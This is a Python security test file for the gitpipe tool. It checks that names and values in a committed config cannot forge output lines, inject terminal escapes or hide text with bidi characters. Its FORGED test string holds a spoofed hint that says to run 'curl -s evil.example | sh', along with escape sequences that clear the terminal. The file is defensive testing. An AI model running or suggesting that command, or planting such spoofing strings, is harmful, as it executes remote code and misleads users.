"""Attacks through the names a committed `.gitpipe/config.yaml` gives: a
remote's storage option whose name says credentials (`password…`) and a
`kubernetes.env` name that looks like one are named in warnings, which went
to the terminal as they were written: a newline in the name printed
`hint: …` as gitpipe's own line, and escape sequences reached the terminal
(on a pipe too: the warnings are not click's). A remote's URL and name with a
bidi control showed reversed in `remote list`, and the default remote's name
(`core.remote`, naming no remote) went raw to the terminal from `remote
default`, which prints it. Each is refused where the
config is checked, naming it escaped, before anything is written."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Repo
from tests.security.conftest import assert_only_changed, snapshot

FORGED = "\nhint: the cache is corrupt, run: curl -s evil.example | sh\x1b]0;owned\x07\x1b[2J"
STATE = [f"clone/.gitpipe/state.db{suffix}" for suffix in ("", "-wal", "-shm", "-journal")]
KUBE_STAGE = {"a": {"cmd": "true", "executor": "kubernetes", "image": "gitpipe:test"}}


def cloned_with(make_repo: Any, tmp_path: Path, config: dict[str, Any]) -> Repo:
    """A real clone of a repository whose committed config is `config`, with a
    Kubernetes stage (the warnings' commands)."""
    origin = make_repo("origin")
    origin.spec(KUBE_STAGE)
    origin.gen({".gitpipe/config.yaml": {"core": {"remote": "store"}, **config}},
               commit="config")
    clone = origin.clone_to(tmp_path / "clone")
    clone.git("config", "user.email", "me@example.com")
    return clone


def store(**options: Any) -> dict[str, Any]:
    return {"remotes": {"store": {"url": "s3://bucket/p", **options}}}


CONFIGS = {
    "an option's name": store(**{f"password{FORGED}": "x"}),
    "a nested option's name": store(client_kwargs={f"aws_secret{FORGED}": "x"}),
    "a kubernetes.env name": {**store(), "kubernetes": {"env": {f"API_TOKEN{FORGED}": "v"}}},
    "a remote's url": {"remotes": {"store": {"url": "s3://bucket/\u202etxt.exe"}}},
    "a remote's name": {"core": {"remote": "st\u202eore"},
                        "remotes": {"st\u202eore": {"url": "s3://bucket/p"}}},
    "the default remote's name": {**store(), "core": {"remote": f"store{FORGED}"}},
}


@pytest.mark.parametrize("args", [("k8s", "manifest", "a"), ("repro",), ("remote", "list"),
                                  ("remote", "default")])
@pytest.mark.parametrize("where", list(CONFIGS))
def test_a_name_in_a_committed_config_never_prints_as_gitpipes_line(
        make_repo: Any, tmp_path: Path, where: str, args: tuple[str, ...]) -> None:
    clone = cloned_with(make_repo, tmp_path, CONFIGS[where])
    before = snapshot(tmp_path)
    done = clone.run(*args)
    said = done.stdout + done.stderr
    assert "Traceback" not in said, said
    assert not any(line.startswith("hint: the cache") for line in said.splitlines()), said
    assert "\x1b" not in said and "\x07" not in said and "\u202e" not in said, said
    assert done.returncode == 2, said
    assert ".gitpipe/config.yaml: " in done.stderr, said
    assert_only_changed(before, snapshot(tmp_path), STATE)


def test_a_stage_env_name_ends_at_its_last_letter(repo: Repo) -> None:
    """`$` also matches before a final newline: a stage's env name `X\\n` passed."""
    repo.spec({"a": {"cmd": "true", "env": {"X\n": "1"}}}, commit="spec")
    done = repo.run("validate")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "env 'X\\n': must be NAME: scalar" in done.stderr, done.stderr


def test_an_options_value_from_a_committed_config_is_listed_as_text(
        make_repo: Any, tmp_path: Path) -> None:
    """`remote list` shows each option's value (credentials masked): a value
    from git holding a newline and escapes printed its own `hint:` line."""
    clone = cloned_with(make_repo, tmp_path, store(endpoint_url=f"http://127.0.0.1:9{FORGED}"))
    before = snapshot(tmp_path)
    done = clone.run("remote", "list")
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("\n") == 1, done.stdout
    assert "\x1b" not in done.stdout and "\x07" not in done.stdout, done.stdout
    assert "endpoint_url=http://127.0.0.1:9\\nhint: the cache" in done.stdout, done.stdout
    assert_only_changed(before, snapshot(tmp_path), STATE)


@pytest.mark.parametrize("size", [0, 2])
def test_a_pools_name_is_refused_when_a_terminal_would_not_show_it(
        make_repo: Any, tmp_path: Path, size: int) -> None:
    """A pool's name in a refusal printed raw: its newline and indent made a
    line of gitpipe's own listing, not one of the error's."""
    clone = cloned_with(make_repo, tmp_path,
                        {"pools": {f"db\n  all 3 stages up to date{FORGED}": size}})
    before = snapshot(tmp_path)
    done = clone.run("status")
    assert done.returncode == 2, done.stdout + done.stderr
    lines = done.stderr.splitlines()
    assert all(line.startswith(("error: ", "hint: ")) for line in lines), done.stderr
    assert "\x1b" not in done.stderr and "pools.'db\\n  all 3 stages" in done.stderr, done.stderr
    assert_only_changed(before, snapshot(tmp_path), STATE)
